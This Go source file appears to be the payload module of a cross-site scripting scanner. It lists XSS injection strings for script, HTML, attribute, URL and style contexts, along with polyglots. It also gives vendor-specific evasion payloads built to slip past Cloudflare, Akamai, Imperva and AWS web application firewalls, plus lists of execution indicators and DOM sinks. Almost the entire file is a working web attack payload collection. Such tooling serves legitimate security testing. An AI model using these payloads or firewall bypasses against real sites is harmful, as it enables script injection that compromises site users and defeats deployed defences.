package payloads

// defaultPayloads holds the built-in payloads per injection context
var defaultPayloads = map[Context][]string{
	ContextScript: {
		"</script><script>alert(1)</script>",
		`"><script>alert(1)</script>`,
		"'><script>alert(1)</script>",
		"<script>alert(String.fromCharCode(88,83,83))</script>",
		"<script>confirm(1)</script>",
		"<script>prompt(1)</script>",
		"<script>alert(document.domain)</script>",
		// template literal injection
		"${alert(1)}",
		"{{alert(1)}}",
	},
	ContextHTML: {
		"<img src=x onerror=alert(1)>",
		"<svg/onload=alert(1)>",
		"<body onload=alert(1)>",
		`<iframe src="javascript:alert(1)">`,
		"<input onfocus=alert(1) autofocus>",
		"<select onfocus=alert(1) autofocus>",
		"<textarea onfocus=alert(1) autofocus>",
		"<marquee onstart=alert(1)>",
		"<details open ontoggle=alert(1)>",
		`<video><source onerror="alert(1)">`,
	},
	ContextAttribute: {
		`" onmouseover="alert(1)`,
		"' onmouseover='alert(1)",
		`" autofocus onfocus="alert(1)`,
		"' autofocus onfocus='alert(1)",
		`"><img src=x onerror=alert(1)>`,
		"'><img src=x onerror=alert(1)>",
		// unquoted
		" onmouseover=alert(1) ",
		" onfocus=alert(1) autofocus ",
	},
	ContextURL: {
		"javascript:alert(1)",
		"javascript:alert(String.fromCharCode(88,83,83))",
		"javascript:void(alert(1))",
		"data:text/html,<script>alert(1)</script>",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"vbscript:msgbox(1)",
	},
	ContextStyle: {
		"</style><script>alert(1)</script>",
		`"><style>@import"javascript:alert(1)";</style>`,
		"expression(alert(1))",
		`-moz-binding:url("data:text/xml;charset=utf-8,<binding><implementation><constructor>alert(1)</constructor></implementation></binding>")`,
	},
	ContextGeneric: {
		// polyglots
		"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>",
		`'">><marquee><img src=x onerror=confirm(1)></marquee>" onmouseover=prompt(1)>`,
		`<img src="x" onerror="alert(String.fromCharCode(88,83,83))">`,
		"<iframe src=javascript:alert(1)>",
		"<svg><script>alert(1)</script></svg>",
	},
}

// bypassPayloads holds vendor specific evasion payloads, keyed by the vendor
// names the WAF detector reports.
var bypassPayloads = map[string]map[Context][]string{
	"cloudflare": {
		ContextScript: {
			"<ScRiPt>alert(1)</sCrIpT>",
			"<script\x00>alert(1)</script>",
			"<script>alert( 1)</script>",
			"&lt;script&gt;alert(1)&lt;/script&gt;",
		},
		ContextHTML: {
			"<img src=x onerror=alert(1)>",
			"<svg/onload=alert(1)>",
			"<img src=x:alert(alt) onerror=eval(src) alt=1>",
		},
	},
	"akamai": {
		ContextScript: {
			"<script\n>alert(1)</script>",
			"<script\t>alert(1)</script>",
			"<script><!--*/alert(1)//--></script>",
		},
		ContextHTML: {
			"<img src=x onerror=\"alert(1)\">",
			"<svg><script>alert&#40;1&#41;</script></svg>",
		},
	},
	"imperva": {
		ContextScript: {
			`<script>eval(atob("YWxlcnQoMSk="))</script>`,
			"<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
		},
		ContextHTML: {
			"<img/src=x/onerror=alert(1)>",
			"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
		},
	},
	"aws_waf": {
		ContextScript: {
			"<scr<script>ipt>alert(1)</scr</script>ipt>",
			"<sCrIpT>alert(1)</sCrIpT>",
		},
		ContextHTML: {
			"<img src=x onerror=alert`1`>",
			"<svg/onload=alert(1)//src=x>",
		},
	},
}

// ExecutionIndicators are strings whose presence around a reflection hints at
// script execution.
var ExecutionIndicators = []string{
	"alert(",
	"confirm(",
	"prompt(",
	"document.cookie",
	"document.domain",
	"window.location",
	"eval(",
	"setTimeout(",
	"setInterval(",
	"Function(",
	"document.write(",
	"innerHTML",
	"outerHTML",
}

// DOMSinks lists DOM APIs that turn attacker strings into code or markup
var DOMSinks = []string{
	"innerHTML",
	"outerHTML",
	"document.write",
	"document.writeln",
	"eval",
	"setTimeout",
	"setInterval",
	"Function",
	"location",
	"location.href",
	"location.replace",
	"location.assign",
}
